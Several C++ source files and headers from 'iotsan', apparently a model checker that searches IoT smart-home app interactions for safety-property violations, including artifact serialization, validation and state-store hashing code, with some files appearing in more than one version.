  options["time_budget_seconds"] = manifest.time_budget_seconds;
  obj["options"] = std::move(options);
  return obj;
}

RunManifest ManifestFromJson(const json::Value& value) {
  RunManifest manifest;
  manifest.tool = value.GetString("tool", "iotsan");
  manifest.version = GetStr(value, "version");
  manifest.compiler = GetStr(value, "compiler");
  manifest.build_type = GetStr(value, "build_type");
  manifest.deployment = GetStr(value, "deployment");
  manifest.config_hash = GetStr(value, "config_hash");
  if (value.Has("model_apps")) {
    for (const json::Value& app : value.At("model_apps").AsArray()) {
      manifest.model_apps.push_back(app.AsString());
    }
  }
  manifest.rng_seed = static_cast<std::uint64_t>(GetInt(value, "rng_seed"));
  manifest.request_id = GetStr(value, "request_id");
  const json::Value& options = value.At("options");
  manifest.max_events = static_cast<int>(GetInt(options, "max_events", 3));
  manifest.scheduling = options.GetString("scheduling", "sequential");
  manifest.model_failures = options.GetBool("model_failures");
  manifest.store = options.GetString("store", "exhaustive");
  manifest.bitstate_bits =
      static_cast<std::uint64_t>(GetInt(options, "bitstate_bits"));
  manifest.include_depth_in_state =
      options.GetBool("include_depth_in_state", true);
  manifest.por = options.GetBool("por");
  manifest.state_compression = options.GetBool("state_compression");
  manifest.stop_at_first_violation =
      options.GetBool("stop_at_first_violation");
  manifest.max_states =
      static_cast<std::uint64_t>(GetInt(options, "max_states"));
  manifest.time_budget_seconds = options.GetNumber("time_budget_seconds");
  return manifest;
}

// ---- ViolationArtifact -------------------------------------------------------

json::Value ToJson(const ViolationArtifact& artifact) {
  json::Object obj;
  obj["schema"] = kArtifactSchema;
  obj["manifest"] = ToJson(artifact.manifest);
  json::Object property;
  property["id"] = artifact.property_id;
  property["category"] = artifact.category;
  property["description"] = artifact.description;
  property["kind"] = artifact.property_kind;
  obj["property"] = std::move(property);
  json::Object violation;
  PutIf(violation, "failure", artifact.failure);
  PutIf(violation, "detail", artifact.detail);
  violation["depth"] = artifact.depth;
  violation["occurrences"] = static_cast<std::int64_t>(artifact.occurrences);
  json::Array apps;
  for (const std::string& app : artifact.apps) apps.push_back(app);
  violation["apps"] = std::move(apps);
  obj["violation"] = std::move(violation);
  json::Array steps;
  for (const TraceStep& step : artifact.steps) steps.push_back(ToJson(step));
  obj["trace"] = std::move(steps);
  return obj;
}

ViolationArtifact ArtifactFromJson(const json::Value& value) {
  if (value.GetString("schema") != kArtifactSchema) {
    throw Error("not an iotsan violation artifact (expected schema '" +
                std::string(kArtifactSchema) + "', got '" +
                value.GetString("schema") + "')");
  }
  ViolationArtifact artifact;
  artifact.manifest = ManifestFromJson(value.At("manifest"));
  const json::Value& property = value.At("property");
  artifact.property_id = property.GetString("id");
  artifact.category = property.GetString("category");
  artifact.description = property.GetString("description");
  artifact.property_kind = property.GetString("kind", "invariant");
  const json::Value& violation = value.At("violation");
  artifact.failure = violation.GetString("failure");
  artifact.detail = violation.GetString("detail");
  artifact.depth = static_cast<int>(GetInt(violation, "depth"));
  artifact.occurrences =
      static_cast<std::uint64_t>(GetInt(violation, "occurrences", 1));
  if (violation.Has("apps")) {
    for (const json::Value& app : violation.At("apps").AsArray()) {
      artifact.apps.push_back(app.AsString());
    }
  }
  for (const json::Value& step : value.At("trace").AsArray()) {
    artifact.steps.push_back(TraceStepFromJson(step));
  }
  return artifact;
}

// ---- State diffing -----------------------------------------------------------

std::vector<TraceDelta> DiffStates(const model::SystemModel& model,
                                   const model::SystemState& before,
                                   const model::SystemState& after) {
  std::vector<TraceDelta> deltas;
  for (std::size_t d = 0; d < model.devices().size(); ++d) {
    const devices::Device& device = model.devices()[d];
    const devices::State& b = before.devices[d];
    const devices::State& a = after.devices[d];
    for (std::size_t i = 0; i < device.attributes().size(); ++i) {
      const devices::AttributeSpec& attr = *device.attributes()[i];
      const bool cyber_changed = b.values[i] != a.values[i];
      const bool physical_changed = b.physical[i] != a.physical[i];
      if (cyber_changed && physical_changed &&
          b.values[i] == b.physical[i] && a.values[i] == a.physical[i]) {
        deltas.push_back({device.id(), attr.name, attr.ValueName(b.values[i]),
                          attr.ValueName(a.values[i]), "both"});
        continue;
      }
      if (cyber_changed) {
        deltas.push_back({device.id(), attr.name, attr.ValueName(b.values[i]),
                          attr.ValueName(a.values[i]), "cyber"});
      }
      if (physical_changed) {
        deltas.push_back({device.id(), attr.name,
                          attr.ValueName(b.physical[i]),
                          attr.ValueName(a.physical[i]), "physical"});
      }
    }
    if (b.online != a.online) {
      deltas.push_back({device.id(), "online", b.online ? "true" : "false",
                        a.online ? "true" : "false", "both"});
    }
  }
  if (before.mode != after.mode) {
    deltas.push_back({"location", "mode", model.modes()[before.mode],
                      model.modes()[after.mode], "both"});
  }
  return deltas;
}

// ---- Flat rendering ----------------------------------------------------------

std::vector<std::string> FlattenTrace(const std::vector<TraceStep>& steps,
                                      const std::string& detail) {
  std::vector<std::string> lines;
  for (const TraceStep& step : steps) {
    std::string header =
        "== event " + std::to_string(step.index) + ": " + step.description;
    // Matches model::FailureScenario::Label().
    std::string failure;
    auto add = [&failure](const char* label) {
      if (!failure.empty()) failure += "+";
      failure += label;
    };
    if (step.sensor_offline) add("sensor offline");
    if (step.actuator_offline) add("actuator offline");
    if (step.comm_fail) add("communication failure");
    if (!failure.empty()) header += " [" + failure + "]";
    lines.push_back(std::move(header));
    for (const std::string& note : step.notes) lines.push_back("   " + note);
  }
  if (!detail.empty()) lines.push_back(detail);
  return lines;
}

// ---- Validation --------------------------------------------------------------

namespace {

bool IsHex16(const std::string& s) {
  if (s.size() != 16) return false;
  for (char c : s) {
    if ((c < '0' || c > '9') && (c < 'a' || c > 'f')) return false;
  }
  return true;
}

}  // namespace

std::vector<std::string> ValidateArtifact(
    const ViolationArtifact& artifact,
    const std::string& expected_config_hash) {
  std::vector<std::string> problems;
  const RunManifest& m = artifact.manifest;
  if (m.tool != "iotsan") {
    problems.push_back("manifest.tool is '" + m.tool + "', want 'iotsan'");
  }
  if (m.version.empty()) problems.push_back("manifest.version is empty");
  if (!IsHex16(m.config_hash)) {
    problems.push_back("manifest.config_hash '" + m.config_hash +
                       "' is not 16 lowercase hex digits");
  }
  if (!expected_config_hash.empty() &&
      m.config_hash != expected_config_hash) {
    problems.push_back("manifest.config_hash " + m.config_hash +
                       " does not match the deployment's fingerprint " +
                       expected_config_hash);
  }
  if (m.model_apps.empty()) {
    problems.push_back("manifest.model_apps is empty");
  }
  if (m.scheduling != "sequential" && m.scheduling != "concurrent") {
    problems.push_back("manifest.scheduling '" + m.scheduling +
                       "' is not a known scheduling");
  }
  if (m.store != "exhaustive" && m.store != "bitstate") {
    problems.push_back("manifest.store '" + m.store +
                       "' is not a known store kind");
  }
  if (m.store == "bitstate" && m.bitstate_bits == 0) {
    problems.push_back("manifest.store is bitstate but bitstate_bits is 0");
  }
  if (m.store == "exhaustive" && m.bitstate_bits != 0) {
    problems.push_back("manifest.store is exhaustive but bitstate_bits is " +
                       std::to_string(m.bitstate_bits));
  }
  if (m.max_events < 1) {
    problems.push_back("manifest.max_events is " +
                       std::to_string(m.max_events) + ", want >= 1");
  }
  if (artifact.property_id.empty()) problems.push_back("property id is empty");
  for (const std::string& app : artifact.apps) {
    bool in_model = false;
    for (const std::string& label : m.model_apps) {
      in_model = in_model || label == app;
    }
    if (!in_model) {
      problems.push_back("violated app '" + app +
                         "' is not among manifest.model_apps");
    }
  }
  if (artifact.depth != static_cast<int>(artifact.steps.size())) {
    problems.push_back(
        "violation depth " + std::to_string(artifact.depth) + " != " +
        std::to_string(artifact.steps.size()) + " trace step(s)");
  }
  if (artifact.depth > m.max_events) {
    problems.push_back("violation depth " + std::to_string(artifact.depth) +
                       " exceeds the manifest's " +
                       std::to_string(m.max_events) + "-event bound");
  }
  for (std::size_t i = 0; i < artifact.steps.size(); ++i) {
    const TraceStep& step = artifact.steps[i];
    const int want_index = static_cast<int>(i) + 1;
    if (step.index != want_index) {
      problems.push_back("trace step " + std::to_string(i) + " has index " +
                         std::to_string(step.index) + ", want " +
                         std::to_string(want_index));
    }
    // The checker's simulated clock: one second per external event.
    if (step.sim_time_ms != want_index * 1000) {
      problems.push_back("trace step " + std::to_string(want_index) +
                         " has sim_time_ms " +
                         std::to_string(step.sim_time_ms) + ", want " +
                         std::to_string(want_index * 1000));
    }
    if (step.kind != "sensor" && step.kind != "app_touch" &&
        step.kind != "timer" && step.kind != "user_mode") {
      problems.push_back("trace step " + std::to_string(want_index) +
                         " has unknown event kind '" + step.kind + "'");
    }
  }
  return problems;
}

}  // namespace iotsan::checker
