#include "checker/state_store.hpp"

#include <algorithm>

#include "util/hash.hpp"

namespace iotsan::checker {

std::size_t ExhaustiveStore::TransparentHash::operator()(
    std::string_view key) const {
  return static_cast<std::size_t>(hash::Fnv1a64(key));
}

ExhaustiveStore::ExhaustiveStore(unsigned shard_count) {
  if (shard_count == 0) shard_count = 1;
  shards_.reserve(shard_count);
  for (unsigned i = 0; i < shard_count; ++i) {
    shards_.push_back(std::make_unique<Shard>());
  }
}

bool ExhaustiveStore::TestAndInsert(std::span<const std::uint8_t> bytes) {
  const std::string_view key(reinterpret_cast<const char*>(bytes.data()),
                             bytes.size());
  // Shard from the top hash bits: unordered_set buckets consume the low
  // bits, so the two stay uncorrelated.
  const std::uint64_t hash = hash::Fnv1a64(key);
  Shard& shard = *shards_[(hash >> 32) % shards_.size()];
  std::lock_guard<std::mutex> lock(shard.mutex);
  if (shard.states.find(key) != shard.states.end()) return true;
  shard.states.emplace(key);
  shard.memory += bytes.size() + sizeof(void*) * 2;
  return false;
}

std::uint64_t ExhaustiveStore::size() const {
  std::uint64_t total = 0;
  for (const auto& shard : shards_) {
    std::lock_guard<std::mutex> lock(shard->mutex);
    total += shard->states.size();
  }
  return total;
}

std::uint64_t ExhaustiveStore::memory_bytes() const {
  std::uint64_t total = 0;
  for (const auto& shard : shards_) {
    std::lock_guard<std::mutex> lock(shard->mutex);
    total += shard->memory;
  }
  return total;
}

std::size_t InternPool::ViewHash::operator()(std::string_view key) const {
  return static_cast<std::size_t>(hash::Fnv1a64(key));
}

InternPool::InternPool(unsigned shard_count) {
  if (shard_count == 0) shard_count = 1;
  shards_.reserve(shard_count);
  for (unsigned i = 0; i < shard_count; ++i) {
    shards_.push_back(std::make_unique<Shard>());
  }
}

std::uint32_t InternPool::Intern(std::span<const std::uint8_t> bytes) {
  const std::string_view key(reinterpret_cast<const char*>(bytes.data()),
                             bytes.size());
  const std::uint64_t hash = hash::Fnv1a64(key);
  lookups_.fetch_add(1, std::memory_order_relaxed);
  Shard& shard = *shards_[(hash >> 32) % shards_.size()];
  std::lock_guard<std::mutex> lock(shard.mutex);
  auto it = shard.entries.find(key);
  if (it != shard.entries.end()) {
    hits_.fetch_add(1, std::memory_order_relaxed);
    return it->second;
  }
  // Copy the component into the shard's bump arena; addresses are stable
  // so the map can key on a view into it.  Blocks grow geometrically from
  // 256 B so the many small pools of a COLLAPSE codec stay cheap.
  if (shard.block_used + bytes.size() > shard.block_size) {
    shard.block_size = std::max<std::size_t>(
        shard.block_size == 0 ? 256
                              : std::min<std::size_t>(shard.block_size * 2,
                                                      std::size_t{1} << 16),
        bytes.size());
    shard.blocks.push_back(std::make_unique<std::uint8_t[]>(shard.block_size));
    shard.block_used = 0;
    shard.memory += shard.block_size;
  }
  std::uint8_t* dest = shard.blocks.back().get() + shard.block_used;
  std::copy(bytes.begin(), bytes.end(), dest);
  shard.block_used += bytes.size();
  const std::uint32_t index =
      next_index_.fetch_add(1, std::memory_order_relaxed);
  shard.entries.emplace(
      std::string_view(reinterpret_cast<const char*>(dest), bytes.size()),
      index);
  shard.memory += sizeof(void*) * 2 + sizeof(std::uint32_t);
  return index;
}

std::uint64_t InternPool::size() const {
  return next_index_.load(std::memory_order_relaxed);
}

std::uint64_t InternPool::memory_bytes() const {
  std::uint64_t total = 0;
  for (const auto& shard : shards_) {
    std::lock_guard<std::mutex> lock(shard->mutex);
    total += shard->memory;
  }
  return total;
}

BitstateStore::BitstateStore(std::size_t bit_count, unsigned hash_count,
                             std::uint64_t seed)
    : bits_(bit_count), hash_count_(hash_count == 0 ? 1 : hash_count),
      seed_(seed) {}

bool BitstateStore::TestAndInsert(std::span<const std::uint8_t> bytes) {
  // One pass over the state bytes yields the base hash; the k probe
  // positions are h1 + i*h2 (Kirsch-Mitzenmacher), with the two derived
  // hashes hoisted out of the probe loop.  A swarm-lane seed remixes the
  // base hash so each lane probes an independent bit pattern; seed 0
  // skips the remix and matches the historical store exactly.
  std::uint64_t base = hash::Fnv1a64(bytes);
  if (seed_ != 0) base = hash::SplitMix64(base ^ seed_);
  const hash::DoubleHash dh = hash::MakeDoubleHash(base);
  bool seen = true;
  std::uint64_t probe = dh.h1;
  for (unsigned i = 0; i < hash_count_; ++i, probe += dh.h2) {
    seen &= bits_.TestAndSet(probe);
  }
  if (!seen) inserted_.fetch_add(1, std::memory_order_relaxed);
  return seen;
}

double BitstateStore::Occupancy() const {
  return static_cast<double>(bits_.PopCount()) /
         static_cast<double>(bits_.size());
}

double BitstateStore::EstOmissionProbability() const {
  double p = 1;
  const double fill = Occupancy();
  for (unsigned i = 0; i < hash_count_; ++i) p *= fill;
  return p;
}

}  // namespace iotsan::checker
