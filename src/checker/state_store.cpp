#include "checker/state_store.hpp"

#include "util/hash.hpp"

namespace iotsan::checker {

bool ExhaustiveStore::TestAndInsert(std::span<const std::uint8_t> bytes) {
  std::string key(reinterpret_cast<const char*>(bytes.data()), bytes.size());
  auto [it, inserted] = states_.insert(std::move(key));
  (void)it;
  if (inserted) memory_ += bytes.size() + sizeof(void*) * 2;
  return !inserted;
}

BitstateStore::BitstateStore(std::size_t bit_count, unsigned hash_count)
    : bits_(bit_count), hash_count_(hash_count == 0 ? 1 : hash_count) {}

bool BitstateStore::TestAndInsert(std::span<const std::uint8_t> bytes) {
  const std::uint64_t base = hash::Fnv1a64(bytes);
  bool seen = true;
  for (unsigned i = 0; i < hash_count_; ++i) {
    seen &= bits_.TestAndSet(hash::NthHash(base, i));
  }
  if (!seen) ++inserted_;
  return seen;
}

double BitstateStore::Occupancy() const {
  return static_cast<double>(bits_.PopCount()) /
         static_cast<double>(bits_.size());
}

double BitstateStore::EstOmissionProbability() const {
  double p = 1;
  const double fill = Occupancy();
  for (unsigned i = 0; i < hash_count_; ++i) p *= fill;
  return p;
}

}  // namespace iotsan::checker
