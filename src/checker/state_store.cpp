#include "checker/state_store.hpp"

#include "util/hash.hpp"

namespace iotsan::checker {

std::size_t ExhaustiveStore::TransparentHash::operator()(
    std::string_view key) const {
  return static_cast<std::size_t>(hash::Fnv1a64(key));
}

ExhaustiveStore::ExhaustiveStore(unsigned shard_count) {
  if (shard_count == 0) shard_count = 1;
  shards_.reserve(shard_count);
  for (unsigned i = 0; i < shard_count; ++i) {
    shards_.push_back(std::make_unique<Shard>());
  }
}

bool ExhaustiveStore::TestAndInsert(std::span<const std::uint8_t> bytes) {
  const std::string_view key(reinterpret_cast<const char*>(bytes.data()),
                             bytes.size());
  // Shard from the top hash bits: unordered_set buckets consume the low
  // bits, so the two stay uncorrelated.
  const std::uint64_t hash = hash::Fnv1a64(key);
  Shard& shard = *shards_[(hash >> 32) % shards_.size()];
  std::lock_guard<std::mutex> lock(shard.mutex);
  if (shard.states.find(key) != shard.states.end()) return true;
  shard.states.emplace(key);
  shard.memory += bytes.size() + sizeof(void*) * 2;
  return false;
}

std::uint64_t ExhaustiveStore::size() const {
  std::uint64_t total = 0;
  for (const auto& shard : shards_) {
    std::lock_guard<std::mutex> lock(shard->mutex);
    total += shard->states.size();
  }
  return total;
}

std::uint64_t ExhaustiveStore::memory_bytes() const {
  std::uint64_t total = 0;
  for (const auto& shard : shards_) {
    std::lock_guard<std::mutex> lock(shard->mutex);
    total += shard->memory;
  }
  return total;
}

BitstateStore::BitstateStore(std::size_t bit_count, unsigned hash_count)
    : bits_(bit_count), hash_count_(hash_count == 0 ? 1 : hash_count) {}

bool BitstateStore::TestAndInsert(std::span<const std::uint8_t> bytes) {
  const std::uint64_t base = hash::Fnv1a64(bytes);
  bool seen = true;
  for (unsigned i = 0; i < hash_count_; ++i) {
    seen &= bits_.TestAndSet(hash::NthHash(base, i));
  }
  if (!seen) inserted_.fetch_add(1, std::memory_order_relaxed);
  return seen;
}

double BitstateStore::Occupancy() const {
  return static_cast<double>(bits_.PopCount()) /
         static_cast<double>(bits_.size());
}

double BitstateStore::EstOmissionProbability() const {
  double p = 1;
  const double fill = Occupancy();
  for (unsigned i = 0; i < hash_count_; ++i) p *= fill;
  return p;
}

}  // namespace iotsan::checker
