// The model checker: bounded DFS over external-event permutations
// (paper §2.3, §8 Algorithm 1).
//
// Spin-equivalent: the search enumerates all permutations of external
// physical events up to `max_events`, drains each cascade (sequential or
// concurrent scheduling), evaluates the active safety properties at every
// stable state, runs the per-cascade monitors, and prunes revisited
// states through an exhaustive or BITSTATE store.  Counter-example traces
// are produced in the style of the paper's Fig. 7.
#pragma once

#include <chrono>
#include <cstdint>
#include <map>
#include <string>
#include <vector>

#include "model/engine.hpp"
#include "model/system_model.hpp"
#include "props/property.hpp"
#include "telemetry/telemetry.hpp"

namespace iotsan::checker {

enum class StoreKind { kExhaustive, kBitstate };

struct CheckOptions {
  /// Maximum number of external events per run (Algorithm 1's bound).
  int max_events = 3;
  model::Scheduling scheduling = model::Scheduling::kSequential;
  /// Enumerate device/communication failure scenarios per event (§8).
  bool model_failures = false;
  StoreKind store = StoreKind::kExhaustive;
  /// Bit-field size for BITSTATE (Spin -w): 2^27 bits = 16 MiB.
  std::size_t bitstate_bits = std::size_t{1} << 27;
  /// Include the event-loop counter in the hashed state vector.  The
  /// generated Promela model keeps Algorithm 1's loop index `i` as a
  /// global, so Spin's state vector distinguishes "same system state,
  /// different event budget"; true reproduces that behaviour.  Setting
  /// false merges such states, trading fidelity for pruning (ablation).
  bool include_depth_in_state = true;
  /// Stop as soon as any property is violated.
  bool stop_at_first_violation = false;
  /// Hard budget on expanded stable states (0 = unlimited).
  std::uint64_t max_states = 0;
  /// Wall-clock budget in seconds (0 = unlimited).  Checked between
  /// cascade drains too, so a single event fanning out into a large
  /// interleaving space cannot overshoot the budget.
  double time_budget_seconds = 0;
  /// Invoke `on_progress` after every `progress_every` expanded states
  /// (0 disables).  A final snapshot is also delivered when a budget
  /// stops the run, so the caller always sees the state at stop time.
  std::uint64_t progress_every = 0;
  telemetry::ProgressCallback on_progress;
};

/// One detected property violation with its counter-example.
struct Violation {
  std::string property_id;
  std::string category;
  std::string description;
  props::PropertyKind kind = props::PropertyKind::kInvariant;
  /// Counter-example: one line per model step (Fig. 7 style).
  std::vector<std::string> trace;
  /// Labels of the apps that acted along the counter-example path.
  std::vector<std::string> apps;
  /// Failure scenario in effect ("" when none).
  std::string failure;
  /// External events consumed before the violation.
  int depth = 0;
  /// How many times this property was (re)violated during the search.
  std::uint64_t occurrences = 1;
};

struct CheckResult {
  std::vector<Violation> violations;  // one entry per violated property
  std::uint64_t states_explored = 0;  // stable states expanded
  std::uint64_t states_matched = 0;   // pruned as already-seen
  std::uint64_t transitions = 0;      // (event, failure) applications
  std::uint64_t cascade_drains = 0;   // cascades drained to quiescence
  bool completed = true;              // false when a budget stopped the run
  double seconds = 0;

  // State-store diagnostics (§2.3 / Spin -w).  For BITSTATE,
  // `store_fill_ratio` is the bit occupancy and
  // `est_omission_probability` ≈ fill^k the chance a new state was
  // mistaken for a visited one; above 50% fill the search silently
  // under-reports violations and a stderr warning is emitted.
  double store_fill_ratio = 0;
  double est_omission_probability = 0;
  std::uint64_t store_entries = 0;
  std::uint64_t store_memory_bytes = 0;
  /// States expanded per external-event depth (index 0 = initial state).
  std::vector<std::uint64_t> depth_histogram;

  bool HasViolation(const std::string& property_id) const;
  const Violation* Find(const std::string& property_id) const;

  /// The final telemetry snapshot of the run (also what `on_progress`
  /// received last when a budget stopped the search).
  telemetry::ProgressSnapshot Progress() const;
};

class Checker {
 public:
  explicit Checker(const model::SystemModel& model) : model_(model) {}

  CheckResult Run(const CheckOptions& options) const;

 private:
  const model::SystemModel& model_;
};

/// Renders a violation report (description, involved apps, trace).
std::string FormatViolation(const Violation& violation);

}  // namespace iotsan::checker
