// The model checker: bounded DFS over external-event permutations
// (paper §2.3, §8 Algorithm 1).
//
// Spin-equivalent: the search enumerates all permutations of external
// physical events up to `max_events`, drains each cascade (sequential or
// concurrent scheduling), evaluates the active safety properties at every
// stable state, runs the per-cascade monitors, and prunes revisited
// states through an exhaustive or BITSTATE store.  Counter-example traces
// are produced in the style of the paper's Fig. 7.
#pragma once

#include <atomic>
#include <chrono>
#include <cstdint>
#include <map>
#include <string>
#include <string_view>
#include <vector>

#include "checker/trace.hpp"
#include "model/engine.hpp"
#include "model/system_model.hpp"
#include "props/property.hpp"
#include "telemetry/telemetry.hpp"

namespace iotsan::util {
class ThreadPool;
}  // namespace iotsan::util

namespace iotsan::checker {

enum class StoreKind { kExhaustive, kBitstate };

struct CheckOptions {
  /// Maximum number of external events per run (Algorithm 1's bound).
  int max_events = 3;
  model::Scheduling scheduling = model::Scheduling::kSequential;
  /// Enumerate device/communication failure scenarios per event (§8).
  bool model_failures = false;
  StoreKind store = StoreKind::kExhaustive;
  /// Bit-field size for BITSTATE (Spin -w): 2^27 bits = 16 MiB.
  std::size_t bitstate_bits = std::size_t{1} << 27;
  /// Include the event-loop counter in the hashed state vector.  The
  /// generated Promela model keeps Algorithm 1's loop index `i` as a
  /// global, so Spin's state vector distinguishes "same system state,
  /// different event budget"; true reproduces that behaviour.  Setting
  /// false merges such states, trading fidelity for pruning (ablation).
  bool include_depth_in_state = true;
  /// Stop as soon as any property is violated.
  bool stop_at_first_violation = false;
  /// Hard budget on expanded stable states (0 = unlimited).
  std::uint64_t max_states = 0;
  /// Wall-clock budget in seconds (0 = unlimited).  Checked between
  /// cascade drains too, so a single event fanning out into a large
  /// interleaving space cannot overshoot the budget.
  double time_budget_seconds = 0;
  /// Invoke `on_progress` after every `progress_every` expanded states
  /// (0 disables).  A final snapshot is also delivered when a budget
  /// stops the run, so the caller always sees the state at stop time.
  std::uint64_t progress_every = 0;
  telemetry::ProgressCallback on_progress;
  /// Re-execute every BITSTATE violation's recorded event permutation
  /// deterministically (exhaustive store, guided path) before reporting
  /// it; violations that do not reproduce are dropped.  Bitstate hashing
  /// can only *omit* states, so a reported trace is genuine — but this
  /// built-in false-positive filter makes each report self-certifying
  /// (`Violation::replay_verified`) and counts refutations in telemetry.
  bool reverify_bitstate = false;
  /// Ample-set partial-order reduction for concurrent scheduling: when a
  /// pending internal event's dispatch commutes with every other pending
  /// dispatch (disjoint static read/write footprints, no
  /// property-relevant writes), expand only that singleton instead of the
  /// full interleaving fan-out.  Sound — the engine falls back to full
  /// expansion whenever commutation cannot be proven — and a no-op under
  /// sequential scheduling.
  bool por = false;
  /// COLLAPSE state compression: key the visited-state store on
  /// component-wise interned tuples (per-device / per-app-state / timer
  /// pools) instead of full state serializations.  Verdict-neutral: the
  /// encoding collides exactly when the full serializations collide.
  bool state_compression = false;
  /// Worker threads for the search: root-level (event × failure)
  /// branches are partitioned across workers sharing one visited-state
  /// store.  1 = serial, 0 = one worker per hardware thread.  Output is
  /// canonicalized so any jobs value yields byte-identical reports with
  /// the exhaustive store (see docs/performance.md for the bitstate
  /// caveat).
  int jobs = 1;
  /// Run on an existing pool instead of spawning one (the sanitizer and
  /// attribution layers share their pool with nested checks this way).
  /// Null = the checker creates its own pool when jobs > 1.
  util::ThreadPool* pool = nullptr;
  /// Optional external interrupt flag (a signal handler, a server
  /// shutting down): polled on the same cancel path as the budgets,
  /// between cascade drains.  When it reads true the search winds down
  /// like a budget hit (`completed = false`), so the caller still gets
  /// the partial result — and can flush traces and write artifacts —
  /// instead of the process dying mid-write.  Not owned; may be null.
  const std::atomic<bool>* interrupt = nullptr;
  /// Correlation id of the originating server request ("" for CLI
  /// runs): attached to the check/replay spans and stamped into every
  /// violation artifact's manifest so traces, access-log lines, and
  /// artifacts join on one key.
  std::string request_id;
  /// Root-branch sharding for distributed runs (src/cluster): when
  /// `branch_modulus > 1`, only the root (event × failure) branches with
  /// `index % branch_modulus == branch_residue` are explored — the
  /// branch enumeration order is deterministic, so a modulus-complete
  /// set of shards covers exactly the branches a single run would.
  /// Each shard owns its own visited-state store, so summed state
  /// counts can exceed a single run's (shards re-visit states another
  /// shard pruned); verdicts are unaffected.  0/1 = no sharding.
  unsigned branch_modulus = 0;
  unsigned branch_residue = 0;
  /// Bitstate hash-family seed (swarm lanes): 0 = historical family.
  std::uint64_t bitstate_seed = 0;
};

/// One detected property violation with its counter-example.
struct Violation {
  std::string property_id;
  std::string category;
  std::string description;
  props::PropertyKind kind = props::PropertyKind::kInvariant;
  /// Structured counter-example: one TraceStep per external event (see
  /// checker/trace.hpp).  Machine-readable, diffable, and replayable.
  std::vector<TraceStep> steps;
  /// Final diagnosis line ("assertion violated: …", "conflicting
  /// commands on …"), rendered after the steps in the Fig. 7 layout.
  std::string detail;
  /// Labels of the apps that acted along the counter-example path.
  std::vector<std::string> apps;
  /// Labels of every app instance in the checked model (the related
  /// set); replay rebuilds the model from exactly these.
  std::vector<std::string> model_apps;
  /// Failure scenario in effect ("" when none).
  std::string failure;
  /// External events consumed before the violation.
  int depth = 0;
  /// How many times this property was (re)violated during the search.
  std::uint64_t occurrences = 1;
  /// True once a deterministic replay reproduced this violation
  /// (CheckOptions::reverify_bitstate or Checker::Replay).
  bool replay_verified = false;

  /// Legacy flat rendering (Fig. 7 style): step headers, indented
  /// cascade notes, then the diagnosis line.
  std::vector<std::string> TraceLines() const {
    return FlattenTrace(steps, detail);
  }
};

struct CheckResult {
  std::vector<Violation> violations;  // one entry per violated property
  std::uint64_t states_explored = 0;  // stable states expanded
  std::uint64_t states_matched = 0;   // pruned as already-seen
  std::uint64_t transitions = 0;      // (event, failure) applications
  std::uint64_t cascade_drains = 0;   // cascades drained to quiescence
  bool completed = true;              // false when a budget stopped the run
  double seconds = 0;

  // State-store diagnostics (§2.3 / Spin -w).  For BITSTATE,
  // `store_fill_ratio` is the bit occupancy and
  // `est_omission_probability` ≈ fill^k the chance a new state was
  // mistaken for a visited one; above 50% fill the search silently
  // under-reports violations and a stderr warning is emitted.
  double store_fill_ratio = 0;
  double est_omission_probability = 0;
  std::uint64_t store_entries = 0;
  std::uint64_t store_memory_bytes = 0;
  /// COLLAPSE compression diagnostics (zero when --state-compression is
  /// off): intern-pool footprint and hit rate, plus the average bytes the
  /// store pays per stored state (key + bookkeeping + pool arenas).
  std::uint64_t compress_states_encoded = 0;
  std::uint64_t compress_pool_entries = 0;
  std::uint64_t compress_pool_bytes = 0;
  std::uint64_t compress_lookups = 0;
  std::uint64_t compress_hits = 0;
  /// (store memory + intern-pool bytes) / stored entries; 0 when empty.
  double store_bytes_per_state = 0;
  /// States expanded per external-event depth (index 0 = initial state).
  std::vector<std::uint64_t> depth_histogram;
  /// Worker lanes the search ran on (1 = serial) and how many root
  /// (event × failure) branches were partitioned across them.
  int jobs = 1;
  std::uint64_t parallel_branches = 0;
  /// States expanded per worker lane (empty for serial runs).  The
  /// per-lane split varies with scheduling; only the total is
  /// deterministic.
  std::vector<std::uint64_t> worker_states_explored;

  bool HasViolation(const std::string& property_id) const;
  const Violation* Find(const std::string& property_id) const;

  /// The final telemetry snapshot of the run (also what `on_progress`
  /// received last when a budget stopped the search).
  telemetry::ProgressSnapshot Progress() const;
};

/// Outcome of deterministically re-executing a recorded counter-example
/// (Checker::Replay): did the same property fire at the same step?
struct ReplayResult {
  bool reproduced = false;
  std::string property_id;
  /// Step at which the artifact says the property fired.
  int expected_step = 0;
  /// Step at which it actually fired during replay (-1 = never).
  int fired_step = -1;
  /// Human explanation of the outcome.
  std::string message;
  double seconds = 0;
};

class Checker {
 public:
  explicit Checker(const model::SystemModel& model) : model_(model) {}

  CheckResult Run(const CheckOptions& options) const;

  /// Feeds the artifact's recorded external-event permutation back
  /// through the cascade engine (guided search, exhaustive store,
  /// Spin's `-t` guided simulation) and checks that the same property
  /// fires at the same step.  The model must match the artifact's
  /// manifest (deployment + model_apps); unresolvable event coordinates
  /// throw iotsan::Error.
  ReplayResult Replay(const ViolationArtifact& artifact) const;

 private:
  const model::SystemModel& model_;
};

/// Merges a violation of the same property found elsewhere in the search
/// into `existing`: occurrences accumulate, charged apps union, and the
/// canonically smaller counter-example wins.  Shared by the in-process
/// parallel merge and the cluster coordinator's shard/lane merges.
void MergeViolationInto(Violation& existing, Violation v);

/// Final report canonicalization, applied identically by the serial,
/// parallel, and distributed paths: violations ordered by property id,
/// charged apps ordered lexicographically.
void CanonicalizeViolations(std::vector<Violation>& violations);

/// Renders a violation report (description, involved apps, trace).
std::string FormatViolation(const Violation& violation);

/// Stable names for PropertyKind ("invariant", "no_conflict", ...),
/// shared by violation artifacts and the analysis cache.
/// PropertyKindFromName inverts (unknown names map to kInvariant).
std::string_view PropertyKindName(props::PropertyKind kind);
props::PropertyKind PropertyKindFromName(std::string_view name);

/// Canonical JSON round-trip for a Violation, including its structured
/// trace — the unit the incremental analysis cache (src/cache) persists.
/// Identical violations produce byte-identical compact dumps.
json::Value ViolationToJson(const Violation& violation);
Violation ViolationFromJson(const json::Value& value);

/// Bundles a violation with a reproducibility manifest.  `options` must
/// be the CheckOptions of the run that found it; deployment name/hash
/// come from the caller (which holds the config); build info is filled
/// from util/build_info.
ViolationArtifact MakeArtifact(const Violation& violation,
                               const CheckOptions& options,
                               const std::string& deployment_name,
                               const std::string& config_hash,
                               std::uint64_t rng_seed = 0);

/// Re-arms the once-per-run bitstate saturation warning.  The >50%
/// occupancy warning prints to stderr at most once between resets (each
/// saturated check still ticks `telemetry::StoreGauges::
/// saturation_warnings`); the CLI resets at the start of each command.
void ResetSaturationWarning();

